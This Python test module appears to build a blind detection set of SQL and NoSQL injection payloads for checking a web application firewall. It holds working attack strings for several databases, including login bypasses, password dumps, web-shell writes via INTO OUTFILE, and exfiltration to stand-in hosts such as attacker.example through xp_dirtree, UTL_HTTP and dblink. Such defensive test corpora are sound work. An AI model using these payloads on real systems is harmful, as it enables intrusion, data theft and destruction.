"""Blind set "hundredeightythird": SQL and NoSQL injection the way it is taught in security courses, books,
certification exams and academies, with benign requests that carry the same words innocently.

The angle: security education, recalled from memory. Each group of payloads is what a learner writes down from a
teaching source: a textbook's worked example (the web application hacker's handbook chapter on data stores, a SQL
injection book's per-database appendix), an exam candidate's notes (OSCP/OSWE-style MSSQL and MySQL notes, CEH
and eJPT flash cards), an online academy's lab solutions (the step-by-step labs of a web security academy: the
hidden-data filter, the login bypass, UNION column counting, conditional responses, conditional errors, time
delays, out-of-band interaction, XML-encoded filter bypass, NoSQL operator injection), a teacher's cheat sheet
(one column per database), the deliberately vulnerable training apps (DVWA low/medium/high, bWAPP, WebGoat's SQL
lessons, sqli-labs' lessons, Juice Shop's login challenges, NodeGoat's $where lesson), a university course's
assignment and a conference workshop's exercises. The classic first examples come first in each family, then the
"advanced" chapter: filter evasion, context-specific payloads (numeric, string, parenthesised, ORDER BY, LIMIT),
blind and out-of-band techniques, second-order and encoding chapters. Each comment names the teaching context and
the target (MySQL/MariaDB, PostgreSQL, SQL Server, Oracle, SQLite, MongoDB, or the training product).

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole MongoDB login documents go as the
JSON body; PHP/Express bracket operators (`password[$ne]=x`) go as raw `name=value` pairs; the academy's
XML-encoded stock-check document goes as the whole XML body. Payloads with control characters (a null byte, a
newline) never go into headers, cookies, the path or XML.

Authorship and independence: written for this repository from general knowledge of each attack family, teaching
material as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredeightythird"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
KV = ("form", "rs-raw-body")
XD = ("xml", "rs-xml")

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: the first token streams a course shows, breaking out of a string or a number
LIBINJECTION: list[Entry] = [
    # DVWA "SQL Injection" module, security level low (MySQL/MariaDB): the user-id box, the lesson's first inputs
    "1' or '1'='1",
    "%' or '0'='0",
    "1' or 1=1#",
    "1' or 1=1 -- -",
    # DVWA medium: the id is a number from a drop-down, no quote to close (MySQL)
    "1 or 1=1",
    "1 or 1=1#",
    "1 or true",
    # sqli-labs lessons 1-4 (MySQL): the same break-out taught for each quote context
    "1' or '1'='1' -- -",
    "1') or ('1'='1",
    "1\") or (\"1\"=\"1",
    "1\" or \"1\"=\"1\" -- -",
    "1')) or 1=1 -- -",
    # web security academy lab "WHERE clause allowing retrieval of hidden data": the category filter (PostgreSQL)
    "Gifts' or 1=1--",
    "Pets' or 1=1--",
    "Accessories' OR 1=1--",
    # the handbook's data-store chapter: the single-quote probe and its repair (Oracle, MSSQL, MySQL)
    "'",
    "''",
    "' or 'a'='a",
    "' or 'a'='a'--",
    # exam notes, SQL Server: close the string, end the statement, comment the rest
    "' or 1=1;--",
    # PostgreSQL course slides: boolean literal instead of a comparison
    "' or true--",
    "1 or 1::int=1",
    # SQLite lab (a Flask assignment): a bare truthy expression
    "' or 1--",
    "' or 1 --",
    # filter-evasion chapter (MySQL): operators for the words or/and
    "1' || 1=1#",
    "1' && 1=1#",
    "1'||'1",
    "-1' or 2-1=1#",
]

# sql-tautology/boolean: the true/false pair every blind chapter starts with, then the oracle questions
TAUTOLOGY: list[Entry] = [
    # web security academy "Blind SQL injection with conditional responses": the TrackingId cookie (PostgreSQL)
    "xyz' AND '1'='1",
    "xyz' AND '1'='2",
    "xyz' AND (SELECT 'a' FROM users LIMIT 1)='a",
    "xyz' AND (SELECT 'a' FROM users WHERE username='administrator')='a",
    "xyz' AND (SELECT 'a' FROM users WHERE username='administrator' AND LENGTH(password)>1)='a",
    "xyz' AND (SELECT 'a' FROM users WHERE username='administrator' AND LENGTH(password)=20)='a",
    # DVWA "SQL Injection (Blind)", low (MySQL): "User ID exists in the database" is the oracle
    "1' and 1=1 #",
    "1' and 1=2 #",
    "1' and length(database())=4 #",
    "1' and (select count(table_name) from information_schema.tables where table_schema=database())=2 #",
    "1' and (select count(column_name) from information_schema.columns where table_name='users')=8 #",
    # testing-guide chapter on boolean inference, numeric parameter (any database)
    "1 AND 1=1",
    "1 AND 1=2",
    "1' AND 'a'='a",
    "1' AND 'a'='b",
    # WebGoat "SQL Injection (advanced)" lesson: the registration name oracle (HSQLDB)
    "tom' AND '1'='1",
    "tom' AND length(password)>5 AND '1'='1",
    # SQL Server notes: the boolean questions an exam candidate writes down
    "1 AND 1=(SELECT COUNT(*) FROM sysobjects WHERE xtype='U' AND name='users')",
    "' AND IS_SRVROLEMEMBER('sysadmin')=1--",
    "' AND (SELECT COUNT(*) FROM master..sysdatabases)>4--",
    # Oracle appendix: every SELECT needs a FROM, so the oracle reads from dual or all_users
    "' AND (SELECT COUNT(*) FROM all_users)>0--",
    "' AND (SELECT 'x' FROM dual)='x'--",
    # PostgreSQL: superuser question
    "1 AND 1=(SELECT 1 FROM pg_user WHERE usename=current_user AND usesuper IS TRUE)",
    # SQLite assignment
    "1 AND (SELECT COUNT(*) FROM sqlite_master WHERE type='table')>3",
    # filter-evasion chapter: no '=' sign allowed (MySQL)
    "' or 2>1 -- -",
    "' or 1<2#",
    "' or not false#",
    "1' and 3 <=> 3#",
]

# sql-comment-sequence: the "comment out the rest" cheat-sheet column, one row per database and trick
COMMENT: list[Entry] = [
    # cheat sheet, MySQL: hash, dash-dash-space, C-style
    "1'#",
    "1'-- -",
    "1'/*",
    "' or 1=1/*",
    "1' or '1'='1'#comment",
    # course note: MySQL needs whitespace after --, so the lab uses a newline or a dash
    "1' or 1=1--\n",
    "1' or 1=1-- x",
    # SQL Server and PostgreSQL: end the statement, then comment
    "';--",
    "1);--",
    "1');--",
    "' OR 'x'='x';--",
    # Oracle: only -- and /* */; the course's example against a login with a trailing AND
    "' OR 'x'='x'--",
    "' OR 1=1 /* trailing clause removed */--",
    # MS Access and old MySQL+PHP: the null byte truncates the query string (filter-evasion chapter)
    "1' or 1=1;\x00",
    "' or 1=1\x00",
    # filter-evasion chapter: comments as whitespace when the space character is blocked (MySQL)
    "1'/**/or/**/1=1/**/--/**/-",
    "1'/**/or/**/'1'='1",
    "admin'/**/--/**/",
    # PostgreSQL supports nested comments; the slides show why a naive comment stripper fails
    "1' /* a /* nested */ comment */ or 1=1--",
    # bWAPP "SQL Injection (GET/Search)" (MySQL): the movie-title search
    "iron' or 1=1-- -",
    "man%' or 1=1#",
    # WebGoat: the lesson that ends the statement with a comment to drop the trailing quote (HSQLDB)
    "Smith' or '1'='1'--",
    "Smith' --",
    # SQLite: only -- and /* */ exist, # is a syntax error; the assignment's lesson
    "x' or 'a'='a';--",
    "x' or 1=1/* */",
    # MSSQL "sp_password" trick from the book: the word in a comment hides the query from the trace log
    "' or 1=1--sp_password",
    # a comment inside the numeric context (SQLite/PostgreSQL)
    "1 or 1=1--",
    "0 or 1=1 -- numeric",
]

# union-select: the column-counting and data-extraction labs
UNION: list[Entry] = [
    # web security academy "determining the number of columns" (any database)
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL--",
    "' UNION SELECT NULL,NULL,NULL--",
    # "finding a column containing text"
    "' UNION SELECT NULL,'abcdef',NULL--",
    "' UNION SELECT 'a',NULL,NULL--",
    # "retrieving data from other tables" and "multiple values in a single column" (PostgreSQL)
    "' UNION SELECT username, password FROM users--",
    "' UNION SELECT NULL,username||'~'||password FROM users--",
    # "querying the database type and version" on Oracle, then on MySQL and SQL Server
    "' UNION SELECT BANNER,NULL FROM v$version--",
    "' UNION SELECT 'abc','def' FROM dual--",
    "' UNION SELECT @@version,NULL#",
    # DVWA low (MySQL): the two-column result
    "1' union select user, password from users#",
    "1' union select null, version() #",
    "1' union select null, user() #",
    "1' union select null, database() #",
    # sqli-labs (MySQL): the negative id so only the injected row shows
    "-1' union select 1,2,3 -- -",
    "-1' union select 1,group_concat(username,0x3a,password),3 from users -- -",
    "0' union select 1,@@datadir,@@basedir -- -",
    # Juice Shop "Database Schema" / "User Credentials" challenges (SQLite): the product search
    "qwert')) UNION SELECT id, email, password, '4', '5', '6', '7', '8', '9' FROM Users--",
    "')) UNION SELECT 1,2,3,4,5,6,7,8,9--",
    # numeric context and ALL (SQL Server, PostgreSQL)
    "-1 UNION SELECT 1,2",
    "1 UNION ALL SELECT NULL,NULL,NULL-- -",
    "' UNION ALL SELECT name,NULL FROM master..sysdatabases--",
    "' UNION SELECT NULL,current_database()--",
    # filter-evasion chapter: case, comments, DISTINCT, parentheses
    "' UnIoN SeLeCt 1,2-- -",
    "'/**/UNION/**/SELECT/**/1,2--",
    "' union distinct select 1,2#",
    "') union select 1,2,3#",
    "1' union (select 1,2)#",
]

# stacked-queries: the second-statement chapter (and the comic every course quotes)
STACKED: list[Entry] = [
    # the classic comic's student name (SQL Server / any engine that stacks)
    "Robert'); DROP TABLE Students;--",
    "'; DROP TABLE users--",
    # exam notes, SQL Server: write access through a second statement
    "1; INSERT INTO users (username,password) VALUES ('hacker','hacker')--",
    "1'; UPDATE users SET password='pwned' WHERE username='admin'--",
    "1; CREATE LOGIN hacker WITH PASSWORD='P@ssw0rd!';--",
    "1; EXEC sp_addsrvrolemember 'hacker','sysadmin'--",
    "'; SHUTDOWN WITH NOWAIT--",
    "1; TRUNCATE TABLE logs--",
    "0'; DECLARE @q varchar(99); SET @q='SELECT name FROM sys.tables'; EXEC(@q);--",
    # PostgreSQL chapter: stacked statements work through the simple query protocol
    "1; DELETE FROM sessions--",
    "1'; CREATE USER attacker WITH SUPERUSER PASSWORD 'p4ss'--",
    "1; CREATE TABLE cmd_exec(cmd_output text)--",
    "1'; ALTER USER postgres WITH PASSWORD 'owned'--",
    # sqli-labs lessons 38-45 (MySQL through mysqli_multi_query)
    "1'; insert into users(id,username,password) values(38,'less38','hello')-- -",
    "1';rename table users to users_bak;-- -",
    "1'; alter table users add column pwned int;-- -",
    "1';SET @s=CONCAT('SEL','ECT * FROM users');PREPARE q FROM @s;EXECUTE q;-- -",
    "'; GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%';-- -",
    "1;select 1;-- -",
    # shop lab (any stacking engine): the price change the instructor demonstrates
    "1; UPDATE products SET price=0 WHERE id=1;--",
    "1'; UPDATE users SET role='admin' WHERE username='student';--",
    # second-order chapter: a stored name whose second statement runs when the profile page re-reads it (MSSQL)
    "bob'; UPDATE users SET password='x' WHERE username='administrator'--",
    # SQLite executescript() assignment: ATTACH writes a PHP file next to the app
    "1; ATTACH DATABASE '/var/www/html/lite.php' AS lite; CREATE TABLE lite.pwn (d text); "
    "INSERT INTO lite.pwn (d) VALUES ('<?php system($_GET[\"c\"]); ?>');--",
    "1'; DROP TABLE IF EXISTS audit;--",
    # Oracle cannot stack: the course shows an anonymous block through an injectable PL/SQL call
    "1'; BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;--",
    "'; DELETE FROM orders WHERE 1=1;--",
    "x'; CREATE TABLE pwned (id int);--",
    "1; SELECT * FROM users WHERE 'a'='a';--",
]

# time-based-blind: the delay chapter, one function per database
TIME: list[Entry] = [
    # web security academy "Blind SQL injection with time delays (and information retrieval)" (PostgreSQL)
    "x'||pg_sleep(10)--",
    "x';SELECT CASE WHEN (1=1) THEN pg_sleep(10) ELSE pg_sleep(0) END--",
    "x';SELECT CASE WHEN (username='administrator' AND SUBSTRING(password,1,1)='a') THEN pg_sleep(10) "
    "ELSE pg_sleep(0) END FROM users--",
    "1; SELECT pg_sleep(5)--",
    "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
    "';select pg_sleep_for('5 seconds')--",
    # DVWA "SQL Injection (Blind)" time variant and sqli-labs lessons 9-10 (MySQL)
    "1' AND SLEEP(5)-- -",
    "1' and if(1=1,sleep(5),0) #",
    "1' and if(ascii(substring(database(),1,1))>100,sleep(3),0) #",
    "1\" and if(length(database())=8,sleep(5),1)-- -",
    "' OR SLEEP(5)#",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
    "1' and (select sleep(5) from dual where database() like 'dvwa')#",
    "1' or sleep(5) and '1'='1",
    # the handbook's heavy-function example (MySQL)
    "1' AND BENCHMARK(5000000,MD5('a'))-- -",
    "1' and benchmark(10000000,sha1(1))#",
    # the polyglot timing probe from the cheat sheet (MySQL, any quote context)
    "' XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
    # SQL Server exam notes
    "1; WAITFOR DELAY '0:0:5'--",
    "'; IF (1=1) WAITFOR DELAY '0:0:5'--",
    "1; IF (SELECT COUNT(*) FROM users WHERE username='admin')=1 WAITFOR DELAY '00:00:05'--",
    "'; IF (ASCII(SUBSTRING(DB_NAME(),1,1))>77) WAITFOR DELAY '0:0:4'--",
    # Oracle: no sleep in SQL, the course uses the pipe timeout
    "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',10)--",
    "'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98),5)||'",
    # SQLite: no sleep function, the assignment burns CPU instead
    "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))",
    "' AND 1=randomblob(500000000)--",
    # heavy query (MySQL), for when sleep() and benchmark() are filtered
    "1 AND (SELECT count(*) FROM information_schema.columns A, information_schema.columns B, "
    "information_schema.columns C)",
    # filter-evasion chapter: sleep without spaces or parentheses around the quote
    "'and(sleep(5))#",
    "1'||sleep(5)||'",
]

# error-based: the error message carries the data
ERROR: list[Entry] = [
    # sqli-labs lessons 5-6 and course notes (MySQL): XPath errors print the first 32 characters
    "1' and extractvalue(1,concat(0x7e,version()))-- -",
    "1' and updatexml(1,concat(0x7e,(select user()),0x7e),1)-- -",
    "1' and extractvalue(1,concat(0x7e,(select table_name from information_schema.tables "
    "where table_schema=database() limit 0,1)))-- -",
    "1' and updatexml(1,concat(0x7e,(select group_concat(username,0x3a,password) from users)),1)-- -",
    # the double-query (duplicate key) technique, MySQL
    "1' and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x "
    "from information_schema.tables group by x)a)-- -",
    # advanced chapter (MySQL 5.5-5.7): overflow and geometry functions
    "1' and exp(~(select * from (select user())a))-- -",
    "1' and !(select*from(select user())x)-~0-- -",
    "1' and geometrycollection((select * from(select * from(select user())a)b))-- -",
    "1' and polygon((select * from(select * from(select user())a)b))-- -",
    "1' and (select * from (select name_const(version(),1),name_const(version(),1))a)-- -",
    "1' and gtid_subset(concat(0x7e,(select user()),0x7e),1)-- -",
    "1' and ST_LatFromGeoHash(version())-- -",
    "1' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,@@version)) USING utf8)))-- -",
    # SQL Server exam notes: conversion errors print the value
    "1 AND 1=CONVERT(int,@@version)",
    "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
    "' AND 1=CAST(DB_NAME() AS int)--",
    "1 AND 1=CONVERT(int,(SELECT TOP 1 password FROM users))",
    "' + CONVERT(int, SYSTEM_USER) + '",
    # web security academy "Visible error-based SQL injection" (PostgreSQL)
    "' AND 1=CAST((SELECT username FROM users LIMIT 1) AS int)--",
    "' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--",
    "1 AND 1=CAST(version() AS int)",
    "' AND 1=(SELECT current_database())::int--",
    # web security academy "Blind SQL injection with conditional errors" (Oracle)
    "xyz'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE '' END FROM dual)||'",
    "xyz'||(SELECT CASE WHEN LENGTH(password)>1 THEN to_char(1/0) ELSE '' END FROM users "
    "WHERE username='administrator')||'",
    # Oracle appendix: functions whose error text echoes their argument
    "' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--",
    "' AND 1=UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE rownum=1))--",
    "' AND 1=XMLType('<:'||(SELECT user FROM dual)||'>')--",
    "' AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT password FROM users WHERE rownum=1)||CHR(62))) "
    "FROM dual)--",
]

# out-of-band: files and network channels (the OSCP web-shell chapter, the academy's OAST labs)
OOB: list[Entry] = [
    # MySQL FILE privilege: read a file, write a web shell (DVWA course, exam notes)
    "1' union select 1,load_file('/etc/passwd')-- -",
    "' UNION SELECT '<?php system($_GET[\"cmd\"]); ?>',NULL INTO OUTFILE '/var/www/html/shell.php'-- -",
    "-1' union select 1,2,'<?php eval($_POST[x]);?>' into dumpfile '/var/www/html/x.php'-- -",
    "1' into outfile '/var/www/html/out.txt'-- -",
    "1' union select null,null into outfile '/tmp/t' lines terminated by '<?php phpinfo(); ?>'-- -",
    # MySQL on Windows: UNC path in load_file leaks data over DNS (advanced chapter)
    r"1' and load_file(concat('\\\\',(select password from mysql.user limit 1),'.attacker.example\\a'))-- -",
    r"' union select load_file('\\\\oast.example\\x'),2-- -",
    # SQL Server: UNC paths make the server authenticate and resolve (xp_dirtree, xp_fileexist, xp_subdirs)
    "'; EXEC master..xp_dirtree '\\\\attacker.example\\x'--",
    "1; DECLARE @q varchar(1024); SET @q='\\\\'+(SELECT TOP 1 password FROM users)+'.oast.example\\a'; "
    "EXEC master..xp_dirtree @q--",
    "'; EXEC master..xp_fileexist '\\\\attacker.example\\a'--",
    "1; EXEC master..xp_subdirs '\\\\10.10.14.2\\x'--",
    "1; SELECT * FROM OPENROWSET('SQLOLEDB','server=attacker.example;uid=sa;pwd=x','SELECT 1')--",
    "'; BULK INSERT tmp FROM '\\\\10.10.14.2\\x\\a.txt'--",
    # web security academy "Blind SQL injection with out-of-band interaction / data exfiltration" (Oracle)
    "x' UNION SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE root "
    "[ <!ENTITY % remote SYSTEM \"http://collab.example/\"> %remote;]>'),'/l') FROM dual--",
    "x' UNION SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE root "
    "[ <!ENTITY % remote SYSTEM \"http://'||(SELECT password FROM users WHERE username='administrator')"
    "||'.collab.example/\"> %remote;]>'),'/l') FROM dual--",
    "x'||UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual))||'",
    "' AND UTL_INADDR.GET_HOST_ADDRESS((SELECT password FROM users WHERE rownum=1)||'.oast.example') "
    "IS NOT NULL--",
    "'||DBMS_LDAP.INIT((SELECT user FROM dual)||'.oast.example',80)||'",
    "' AND (SELECT HTTPURITYPE('http://oast.example/'||user).GETCLOB() FROM dual) IS NOT NULL--",
    # PostgreSQL: dblink, COPY ... PROGRAM, server-side file reads
    "'; SELECT dblink_connect('host=attacker.example user=x password=x dbname=x')--",
    "'; CREATE EXTENSION IF NOT EXISTS dblink; SELECT * FROM dblink('host='||(SELECT password FROM users "
    "LIMIT 1)||'.oast.example user=a dbname=a','SELECT 1') RETURNS (x int)--",
    "1; COPY (SELECT '') TO PROGRAM 'nslookup attacker.example'--",
    "1; COPY users TO '/tmp/users.csv'--",
    "' UNION SELECT pg_read_file('/etc/passwd'),NULL--",
    "1; SELECT lo_import('/etc/passwd')--",
    # SQLite: the assignment's file read through a loaded table (readfile from the CLI extension)
    "' UNION SELECT readfile('/etc/passwd'),NULL--",
    "1' union select 1,load_file(0x2f7661722f7777772f68746d6c2f636f6e6669672e706870)-- -",
]

# information-schema/catalog probing: listing databases, tables and columns, one catalog per database
CATALOG: list[Entry] = [
    # web security academy "listing the database contents on non-Oracle databases" (PostgreSQL)
    "' UNION SELECT table_name,NULL FROM information_schema.tables--",
    "' UNION SELECT column_name,NULL FROM information_schema.columns WHERE table_name='users'--",
    # "... on Oracle"
    "' UNION SELECT table_name,NULL FROM all_tables--",
    "' UNION SELECT column_name,NULL FROM all_tab_columns WHERE table_name='USERS'--",
    "' UNION SELECT owner,table_name FROM all_tables WHERE rownum<10--",
    "' UNION SELECT username,NULL FROM all_users--",
    # DVWA and sqli-labs (MySQL): group_concat of the catalog
    "1' union select 1,group_concat(table_name) from information_schema.tables where table_schema=database()#",
    "1' union select 1,group_concat(column_name) from information_schema.columns where table_name='users'#",
    "-1' union select 1,schema_name,3 from information_schema.schemata-- -",
    "-1' union select 1,group_concat(schema_name),3 from information_schema.schemata-- -",
    "' UNION SELECT user,authentication_string FROM mysql.user#",
    "' UNION SELECT grantee,privilege_type FROM information_schema.user_privileges#",
    "' UNION SELECT file_priv,NULL FROM mysql.user WHERE user='root'#",
    "1' and (select count(*) from information_schema.tables where table_schema=database())>5#",
    # advanced chapter: information_schema filtered, MySQL 5.7+ has other catalogs
    "' UNION SELECT table_name,NULL FROM mysql.innodb_table_stats#",
    "' union select table_name,null from sys.schema_table_statistics#",
    # SQL Server exam notes
    "' UNION SELECT name,NULL FROM sysobjects WHERE xtype='U'--",
    "' UNION SELECT name,NULL FROM master..sysdatabases--",
    "1 UNION SELECT name,NULL FROM sys.tables--",
    "' UNION SELECT name,NULL FROM syscolumns WHERE id=OBJECT_ID('users')--",
    "1 UNION SELECT table_name,column_name FROM information_schema.columns--",
    # PostgreSQL course
    "' UNION SELECT tablename,NULL FROM pg_tables WHERE schemaname='public'--",
    "' UNION SELECT datname,NULL FROM pg_database--",
    "' UNION SELECT usename,passwd FROM pg_shadow--",
    "' UNION SELECT relname,NULL FROM pg_class WHERE relkind='r'--",
    # SQLite assignment
    "' UNION SELECT name,sql FROM sqlite_master WHERE type='table'--",
    "' UNION SELECT tbl_name,NULL FROM sqlite_master--",
    "1 UNION SELECT group_concat(name),NULL FROM pragma_table_info('users')--",
]

# mysql-comment-obfuscation: the filter-evasion chapter's MySQL-only executable comments and inline comments
MYCOMMENT: list[Entry] = [
    # executable comments: MySQL runs the text inside /*! */, other parsers see a comment
    "1' /*!UNION*/ /*!SELECT*/ 1,2-- -",
    "1'/*!50000union*//*!50000select*/1,2-- -",
    "1'/*!12345UNION*//*!12345SELECT*/1,2#",
    "1' /*!or*/ 1=1-- -",
    "1' /*!50000and*/ 1=1#",
    "'/*!or*/'1'='1",
    "1/*!union*//*!all*//*!select*/1,database()",
    "1'/*!order by*/3#",
    "1'/*!00000AND*/ SLEEP(3)#",
    "1'||/*!sleep(3)*/#",
    "-1'/*!50000union*/all/*!50000select*/1,group_concat(table_name)/*!50000from*/information_schema.tables#",
    "1 /*!union*/ distinct /*!select*/ 1,2",
    "1'/*!union*/(/*!select*/1,2)#",
    "-1'/*!*/union/*!*/select/*!*/1,2#",
    # version-gated comments: the course's MySQL fingerprinting exercise
    "1'/*!32302 and 1=0*/#",
    "1 /*!40000 OR 1=1*/",
    "1'/*!50727 or*/1=1#",
    "1'/*!80000 or 1=1*/#",
    # inline comments and the newline after a hash comment
    "1'/*foo*/UNION/*bar*/ALL/*baz*/SELECT/**/1,2,3#",
    "1'/**_**/union/**_**/select/**_**/1,2#",
    "1' union#\nselect 1,2#",
    "1' union-- x\nselect 1,2-- -",
    "1'/*!50000\nunion*/\n/*!50000select*/1,2#",
    "1' and/**/ascii(substr((/*!select*/user()),1,1))>64#",
    "1' and (/*!50000select*/ 1)=1#",
    "admin'/*!*/#",
    "1' /*!50000procedure*/ analyse()#",
    "1'/*!and*/(/*!select*/count(*)/*!from*/users)>0#",
]

# function-based-probing: the string functions a blind chapter extracts with, character by character
FUNCTION: list[Entry] = [
    # DVWA blind and sqli-labs lesson 8 (MySQL)
    "1' and ascii(substring(database(),1,1))>97#",
    "1' and ord(mid(user(),1,1))=114#",
    "1' AND SUBSTRING(@@version,1,1)='5'-- -",
    "1' and left(database(),1)='d'#",
    "1' and right(user(),9)='localhost'#",
    "1' and char_length(database())=4#",
    "1' and mid(version(),1,1)='8'#",
    "1' and length(user())>10#",
    "1' and (select hex(substr(password,1,1)) from users limit 1)='61'#",
    "1' and locate('a',database())=2#",
    "1' and instr(user(),'root')>0#",
    "1' and strcmp(substr(database(),1,1),'d')=0#",
    "1' and lpad(database(),1,1)='d'#",
    "1' and reverse(database())='awvd'#",
    "1' and char(100,118,119,97)=database()#",
    # concat in the extraction step (MySQL)
    "1' union select 1,concat(user,0x3a,password) from users#",
    "1' union select 1,concat_ws(0x3a,user(),database(),version())#",
    # SQL Server notes
    "1 AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64",
    "1 AND UNICODE(SUBSTRING(DB_NAME(),1,1))=109",
    "1 AND LEN(SYSTEM_USER)>2",
    # Oracle: SUBSTR and LENGTH on the academy's users table
    "' AND SUBSTR((SELECT password FROM users WHERE username='administrator'),1,1)='a'--",
    "' AND ASCII(SUBSTR(user,1,1))>64--",
    "' AND LENGTH((SELECT password FROM users WHERE username='administrator'))=20--",
    # PostgreSQL
    "' AND SUBSTRING(current_user,1,1)='p'--",
    "1 AND ASCII(SUBSTR((SELECT version()),1,1))=80",
    # SQLite assignment
    "1 AND substr((SELECT sql FROM sqlite_master LIMIT 1),1,1)='C'",
    "1 AND unicode(substr(sqlite_version(),1,1))=51",
    # WebGoat's blind lesson (HSQLDB): guessing tom's password one letter at a time
    "tom' AND substring(password,1,1)='t",
]

# sql-authentication-bypass: the login form, the first lab of nearly every course
AUTH: list[Entry] = [
    # web security academy "SQL injection vulnerability allowing login bypass" (PostgreSQL)
    "administrator'--",
    # the cheat sheet's username column (MySQL / MSSQL / Oracle / PostgreSQL)
    "admin' --",
    "admin' #",
    "admin'/*",
    "admin';--",
    "' or 1=1--",
    "' or '1'='1' --",
    "' or 1=1 limit 1 -- -",
    "admin' or '1'='1",
    "admin') or ('1'='1",
    "admin')-- -",
    "') or ('a'='a",
    "') or 1=1--",
    "')) or 1=1-- -",
    "\" or \"\"=\"",
    "\" or 1=1--",
    "\" or 0=0 #",
    "' or ''='",
    "'='",
    "' or 0=0 --",
    # the password column (the username is known)
    "' or 1='1",
    "anything' OR 'x'='x",
    # Juice Shop "Login Admin" / "Login Jim" challenges (SQLite)
    "' OR true--",
    "admin@juice-sh.op'--",
    "jim@juice-sh.op'--",
    # the advanced chapter: the app compares the hash itself, so the UNION forges the row (MySQL, MSSQL)
    "' UNION SELECT 1,'admin','5f4dcc3b5aa765d61d8327deb882cf99'--",
    "x' AND 1=0 UNION ALL SELECT 'admin','81dc9bdb52d04dc20036dbd8313ed055'-- -",
    "' or username like 'admin%'--",
    # a numeric PIN login in a course assignment (SQLite)
    "0 or 1=1",
]

# nosql-injection: MongoDB operator and $where lessons (academy NoSQL labs, NodeGoat, a workshop on MEAN stacks)
NOSQL: list[Entry] = [
    # whole login documents (Express with a JSON body parser, MongoDB)
    ('{"username": {"$ne": null}, "password": {"$ne": null}}', *JB),
    ('{"username": "admin", "password": {"$gt": ""}}', *JB),
    ('{"username": {"$regex": "admin.*"}, "password": {"$ne": "x"}}', *JB),
    ('{"username": {"$in": ["admin", "administrator", "root"]}, "password": {"$ne": ""}}', *JB),
    ('{"username": "wiener", "password": "peter", "$where": "0"}', *JB),
    ('{"username": "administrator", "password": {"$regex": "^a.*"}}', *JB),
    ('{"username": {"$nin": ["wiener"]}, "password": {"$ne": ""}}', *JB),
    ('{"username": "carlos", "password": {"$ne": "invalid"}, '
     '"$where": "Object.keys(this)[0].match(\'^.{0}a.*\')"}', *JB),
    ('{"username": {"$exists": true}, "password": {"$exists": true}}', *JB),
    ('{"$where": "sleep(5000) || true"}', *JB),
    ('{"username": {"$regex": "^a"}, "password": {"$regex": "^p"}}', *JB),
    ('{"$or": [{"username": "admin"}, {"username": {"$ne": ""}}], "password": {"$ne": ""}}', *JB),
    # PHP and Express urlencoded parsers turn brackets into operator objects
    ("username[$ne]=toto&password[$ne]=toto", *KV),
    ("username=admin&password[$ne]=1", *KV),
    ("user[$regex]=^adm&pass[$ne]=1", *KV),
    ("username[$gt]=&password[$gt]=", *KV),
    ("username[$nin][]=admin&password[$ne]=x", *KV),
    ("username=admin&password[$regex]=^.{8}$", *KV),
    ("username[$exists]=true&password[$exists]=true", *KV),
    ("login[$in][]=admin&login[$in][]=root&pass[$ne]=", *KV),
    # $where JavaScript: the string is concatenated into a server-side function (NodeGoat, workshop slides)
    "' || '1'=='1",
    "admin' || 'a'=='a",
    "'; return true; var x='",
    "'; sleep(5000); var x='",
    "0;return true",
    "admin' && this.password[0] == 'a' || 'a'=='b",
    "'; while(true){}; var y='",
    "1; return this.role == 'admin'",
    # the testing guide's example of injecting into a Mongo shell expression
    "true, $where: '1 == 1'",
]

# hex/char encoding: the encoding chapter (literals without quotes, built strings, double encoding)
ENCODING: list[Entry] = [
    # MySQL: hex literals replace quoted strings when quotes are escaped
    "' union select 1,load_file(0x2f6574632f706173737764)-- -",
    "-1 union select 1,column_name from information_schema.columns where table_name=0x7573657273",
    "' or username=0x61646d696e-- -",
